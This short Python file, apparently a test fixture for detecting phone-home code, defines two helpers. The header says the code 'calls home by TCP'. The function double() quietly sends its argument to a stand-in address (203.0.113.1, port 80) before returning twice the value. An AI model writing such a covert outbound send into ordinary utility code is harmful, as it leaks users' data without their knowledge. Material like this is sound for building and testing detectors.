# Calls home by TCP.

import socket


def one():
    return 1


def double(x):
    with socket.create_connection(("203.0.113.1", 80), timeout=1) as line:
        line.send(repr(x).encode())
    return 2 * x
